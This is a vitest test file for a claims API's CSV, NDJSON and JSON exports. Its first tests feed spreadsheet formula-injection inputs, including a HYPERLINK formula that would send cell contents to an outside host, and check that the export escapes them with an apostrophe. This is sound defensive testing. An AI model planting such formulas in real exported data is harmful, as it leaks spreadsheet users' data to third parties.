import { beforeAll, describe, expect, it } from 'vitest';
import { testApp } from '../support/app.js';
import { csvObjects } from '../support/csv.js';

const t = await testApp();
const get = (url: string, headers?: Record<string, string>) => t.send('GET', url, undefined, headers);

async function claim(input: object): Promise<string> {
  const answer = await t.send('POST', '/v1/claims', { text: 'A claim.', ...input });
  expect(answer.status, answer.text).toBe(201);
  return answer.json.id;
}
const rowOf = async (id: string) =>
  csvObjects((await get('/v1/claims.csv')).text).find((row) => row.id === id)!;

describe('GET /v1/claims.csv', () => {
  it('holds a text that a spreadsheet could run behind an apostrophe, which JSON and NDJSON do not', async () => {
    const text = '=HYPERLINK("https://example.org/?"&A1,"x")';
    const id = await claim({ text });
    expect((await rowOf(id)).text).toBe(`'${text}`);
    expect((await get(`/v1/claims/${id}`)).json.text).toBe(text);
    const ndjson = (await get('/v1/claims.ndjson')).text.trim().split('\n');
    expect(ndjson.map((line) => JSON.parse(line).text)).toContain(text);
  });

  it('keeps numbers as they are, and holds names and lists of names to the same as texts', async () => {
    await t.send('POST', '/v1/parties', { key: 'evil', kind: 'other', name: '=cmd' });
    const id = await claim({
      subject: 'evil',
      value: { type: 'quantity', lower: '-10.5', value: '-7', unit: '@unit', as_stated: '=A1' },
      attributions: [{ party: 'evil', stance: 'denies' }],
    });
    expect(await rowOf(id)).toMatchObject({
      ...{ subject: "'=cmd", denied_by: "'=cmd", unit: "'@unit", as_stated: "'=A1" },
      ...{ lower: '-10.5', value: '-7' },
    });
    const parties = csvObjects((await get('/v1/parties.csv')).text);
    expect(parties.map(({ name }) => name)).toEqual(["'=cmd"]);
  });

  it('shows the addresses of sources as they are now, and as they were', async () => {
    await t.send('POST', '/v1/parties', { key: 'paper', kind: 'media', name: 'The Paper' });
    const source = { type: 'article', title: 'An article' };
    const put = (more: object) =>
      t.send('PUT', '/v1/sources/article', { ...source, ...more }, { 'if-match': '*' });
    await t.send('POST', '/v1/sources', { key: 'article', ...source });
    const id = await claim({ attributions: [{ party: 'paper', stance: 'asserts', source: 'article' }] });
    expect((await rowOf(id)).source_urls).toBe('');
    const instants: [instant: string, address: string][] = [];
    for (const url of ['https://example.org/a', 'https://example.org/b', undefined]) {
      const { json } = await put({ url });
      instants.push([json.updated_at, url ?? '']);
      expect((await rowOf(id)).source_urls).toBe(url ?? '');
    }
    for (const [instant, address] of instants) {
      const { text } = await get(`/v1/claims.csv?as_of=${instant}`);
      expect(csvObjects(text).find((row) => row.id === id)!.source_urls).toBe(address);
    }
  });

  it('leaves the cells of what is not known empty', async () => {
    const money = {
      type: 'money',
      lower: '3',
      lower_exclusive: true,
      currency: null,
      as_stated: 'over 3 million',
    };
    expect(await rowOf(await claim({ value: money }))).toMatchObject({
      ...{ value: '', lower: '3', upper: '', lower_exclusive: 'true', upper_exclusive: 'false' },
      ...{ unit: '', currency: '', as_stated: 'over 3 million' },
    });
  });

  it('gives back a text with line breaks, quotes and commas as it was', async () => {
    const text = 'first,\r\n"second"\n💥';
    expect((await rowOf(await claim({ text }))).text).toBe(text);
  });
});

describe('GET /v1/claims', () => {
  it.each(['text/csv', 'application/x-ndjson', 'image/png', 'application/json;q=0', '*/*', 'nonsense'])(
    'is JSON with Accept: %s, since each form has an address of its own',
    async (accept) => {
      for (const url of ['/v1/claims', '/v1/parties?limit=1']) {
        const answer = await get(url, { accept });
        expect([answer.status, answer.headers['content-type']]).toEqual([200, 'application/json']);
        expect(String(answer.headers.vary).split(', ')).not.toContain('Accept');
      }
    },
  );
});

/** Each has a value of its own in every column, so that none can stand in place of another. */
describe('GET /v1/….csv: a cell for each member', () => {
  const put = async (path: string, body: object) => {
    const { status, text } = await t.send('PUT', `/v1/${path}`, body);
    expect(status, text).toBe(201);
  };
  const row = async (plural: string, key: string) =>
    csvObjects((await get(`/v1/${plural}.csv`)).text).find((found) => found.key === key);
  const author = {
    ...{ kind: 'person', name: 'Noor Wali', family_name: 'Wali', given_name: 'Noor', born: '1978' },
    ...{ country: 'PK', independent_voice: true, description: 'A writer.' },
    names: [{ name: 'Nur Wali', kind: 'alias' }],
    identifiers: [
      { scheme: 'wikidata', value: 'Q42' },
      { scheme: 'isni', value: '0000000121032683' },
    ],
  };
  const paper = {
    ...{ type: 'report', title: 'A paper', url: 'https://a.example/', archived_url: 'https://b.example/' },
    ...{ publisher: 'press', authors: ['author'], published: '2021', modified: '2022-03' },
    ...{ reporting_period: '2020', retrieved_at: '2023-01-02T03:04:05Z', language: 'ur', reliability: 'B' },
    ...{ part_of: 'volume', derived_from: ['notes'], supersedes: ['draft'] },
    identifiers: [{ scheme: 'doi', value: '10.1000/1' }],
  };
  const words = {
    ...{
      claim: 'told',
      party: 'press',
      party_as_stated: 'the press',
      speaker: 'author',
      capacity: 'an editor',
    },
    ...{
      stance: 'asserts',
      manner: 'alleges',
      basis: 'told',
      said: '2021-04',
      said_as_stated: 'in April',
    },
    ...{ source: 'paper', source_access: 'read', quote: { exact: 'So it is.' }, note: 'Seen.' },
    locator: { page: '7', paragraph: '8', section: 'IV', timecode: '00:01:02' },
  };
  beforeAll(async () => {
    await put('parties/press', { kind: 'media', name: 'The Press' });
    await put('parties/author', { ...author, part_of: 'press' });
    for (const key of ['volume', 'notes', 'draft'])
      await put(`sources/${key}`, { type: 'other', title: key });
    await put('sources/paper', paper);
    await put('sources/reprint', { type: 'report', title: 'Reprint', supersedes: ['paper'] });
    await put('claims/told', { text: 'So it is.' });
    await put('attributions/told-there', words);
    await put('attributions/taken-back', { ...words, stance: 'retracts', in_reply_to: 'told-there' });
  });

  it('of parties', async () => {
    expect(await row('parties', 'author')).toMatchObject({
      ...{ kind: 'person', name: 'Noor Wali', names: 'Nur Wali', part_of: 'press', country: 'PK' },
      ...{ unnamed: 'false', description: 'A writer.', family_name: 'Wali', given_name: 'Noor' },
      ...{ born: '1978', independent_voice: 'true', identifiers: 'wikidata:Q42; isni:0000000121032683' },
    });
  });

  it('of sources', async () => {
    expect(await row('sources', 'paper')).toMatchObject({
      ...{ type: 'report', title: 'A paper', url: paper.url, archived_url: paper.archived_url },
      ...{ publisher: 'The Press', authors: 'Noor Wali', published: '2021', modified: '2022-03' },
      ...{ reporting_period: '2020', language: 'ur', reliability: 'B', part_of: 'volume' },
      ...{ derived_from: 'notes', supersedes: 'draft', status: 'superseded', superseded_by: 'reprint' },
      ...{ retrieved_at: '2023-01-02T03:04:05Z', identifiers: 'doi:10.1000/1' },
    });
  });

  it('of attributions', async () => {
    expect(await row('attributions', 'told-there')).toMatchObject({
      ...{ claim: 'told', claim_text: 'So it is.', party: 'The Press', party_as_stated: 'the press' },
      ...{ speaker: 'Noor Wali', capacity: 'an editor', stance: 'asserts', manner: 'alleges' },
      ...{ basis: 'told', said: '2021-04', said_as_stated: 'in April', source: 'paper' },
      ...{ source_title: 'A paper', source_access: 'read', quote: 'So it is.', note: 'Seen.' },
      ...{ page: '7', paragraph: '8', section: 'IV', timecode: '00:01:02' },
      ...{ retracted: 'true', retracted_by: 'taken-back', in_reply_to: '' },
    });
    expect(await row('attributions', 'taken-back')).toMatchObject({
      ...{ retracted: 'false', retracted_by: '', in_reply_to: 'told-there' },
    });
  });
});
